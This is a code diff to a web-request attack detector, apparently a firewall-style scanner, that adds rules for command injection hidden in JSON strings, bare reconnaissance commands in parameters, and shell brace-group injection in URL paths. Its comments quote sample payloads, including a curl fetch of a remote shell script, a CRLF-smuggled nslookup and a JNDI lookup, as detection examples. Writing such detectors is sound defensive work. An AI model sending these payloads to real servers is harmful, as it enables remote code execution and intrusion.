@@ -8,7 +8,7 @@ import { isMailInjection, isPop3CommandLine } from './mail';
 import { isNosqli, isNosqlKey, isOrmLookupKey } from './nosqli';
 import { hasNulByte, isAppSecretsFile, isRemoteInclude, mayTraverse, traverses } from './ptrav';
 import { isCodeInjection, isDotNetTypeHint, isJavaTypeHint, isScriptFileName, isStateFormatterObject } from './code-injection';
-import { isHeaderInjection, isPlainCommandLine, isRce } from './rce';
+import { isHeaderInjection, isPlainCommandLine, isProgramAlone, isRce, PROGRAM_ALONE_LENGTH } from './rce';
 import { CLIENT_ADDRESS_HEADERS, isCommandInHeader, isNoClientInHeader, isRangeOverflow } from './header-grammar';
 import { isOpenRedirect, isReturnTarget } from './redir';
 import { isClassLoaderName, isCommandInSink, isExploitExpression, isLoaderVariableName, isServerFileInSink } from './exploits';
@@ -124,6 +124,8 @@ const CRLF_GATE = new RegExp(`[\\r\\n\\\\${UNICODE_BREAKS}]`);
 const REQUEST_LINE_POINTS = kinds('query', 'path_segment', 'cookie', 'form', 'json', 'multipart');
 /** Where a NUL byte reaches a file name: parameters, path segments, cookies, structured fields. */
 const NUL_POINTS = kinds('path', 'path_segment', 'query', 'form', 'json', 'xml', 'multipart', 'cookie', 'referer', 'filename');
+/** Where a reconnaissance program alone is a value given to a shell: parameters, cookies and headers, not routes or names. */
+const PROGRAM_ALONE_POINTS = kinds('query', 'form', 'json', 'xml', 'multipart', 'cookie', 'header');
 /** Where a parameter named for a command is given one. */
 const COMMAND_POINTS = kinds('query', 'form', 'json', 'multipart', 'cookie', 'referer');
 const URL_PARAMS = kinds('query', 'form', 'json', 'xml', 'multipart', 'cookie', 'referer', 'body', 'path_segment', 'filename');
@@ -207,6 +209,11 @@ function jsonStrings(t: string): string[] | null {
   return out;
 }
 
+const isRceAfterBreak = (s: string): boolean => (s.includes('\n') || s.includes('\r')) && isRce(s);
+
+/** `;{`, `|{`, `&{`: a brace group opened where a command may start. */
+const hasBraceGroupAfterSeparator = (t: string): boolean => t.includes(';{') || t.includes('|{') || t.includes('&{');
+
 /** Headers that carry the name of an uploaded file (upload APIs without multipart). */
 const FILE_NAME_HEADERS = new Set([
   'x-file-name',
@@ -263,7 +270,10 @@ export const DETECTORS: Detector[] = [
     cls: 'rce',
     gate: SHELL_OR_QUOTE,
     applies: (v) => valueAt(v) || v.kind === 'urlencoded',
-    test: (t) => isRce(t),
+    // A string of a JSON document sent as one parameter that holds a line break, which JSON's
+    // escapes hide from the reading of the raw text (`params=[{"PASSWORD":"x\r\nnslookup host"}]`),
+    // is read on its own. Only those: a package.json sent as text has `"start": "node index.js"`.
+    test: (t) => isRce(t) || (jsonStrings(t)?.some(isRceAfterBreak) ?? false),
   },
   // Code of the server languages (code-injection.ts): PHP, JVM, Node.js, Perl/Ruby, serialized objects.
   // No gate: `java.lang.Runtime`, `rO0AB...` and `__proto__` have none of the shell's characters.
@@ -294,6 +304,16 @@ export const DETECTORS: Detector[] = [
     minLength: 4,
     applies: (v) => v.kind === 'filename' || (v.kind === 'header' && FILE_NAME_HEADERS.has(v.name)),
     test: (t) => (t.includes('.') || t.includes('_')) && isScriptFileName(t),
+  },
+  // A reconnaissance program alone as the whole value as sent (`whoami`, `ipconfig`; not `wh%00oami`,
+  // a name cut by a NUL): no character to gate on, the length first; parameters and headers only
+  // (a path segment `/api/whoami` is a route).
+  {
+    cls: 'rce',
+    gate: null,
+    applies: (v) => PROGRAM_ALONE_POINTS.has(v.kind) && valueAt(v),
+    test: (t, v) =>
+      t.length >= PROGRAM_ALONE_LENGTH.min && t.length <= PROGRAM_ALONE_LENGTH.max && t === v.value && isProgramAlone(t),
   },
   // A command line without shell characters (`uname -n -s`): gated on the space after its first word.
   { cls: 'rce', gate: / /, applies: valueAt, test: (t) => isPlainCommandLine(t) },
@@ -425,6 +445,15 @@ export const DETECTORS: Detector[] = [
     longestMatch: 32,
     applies: (v) => v.kind === 'key',
     test: (t) => isLoaderVariableName(t),
+  },
+  // A brace group run after a separator spans segments when its URL has slashes
+  // (`/x;{curl,http://host/a.sh};`, bash's brace expansion, SonicWall CVE-2021-20038): the whole
+  // path is read for shell when it has one. rce's gate, shared (the gate bits are few).
+  {
+    cls: 'rce',
+    gate: SHELL_OR_QUOTE,
+    applies: (v) => v.kind === 'path',
+    test: (t) => hasBraceGroupAfterSeparator(t) && isRce(t),
   },
   // A lookup spans segments when its URL has slashes (`/api/x/${jndi:ldap://host/a}`): read on the whole path.
   { cls: 'rce', gate: /[$]/, applies: (v) => v.kind === 'path', test: (t) => t.includes('${') && isJndiLookup(t) },
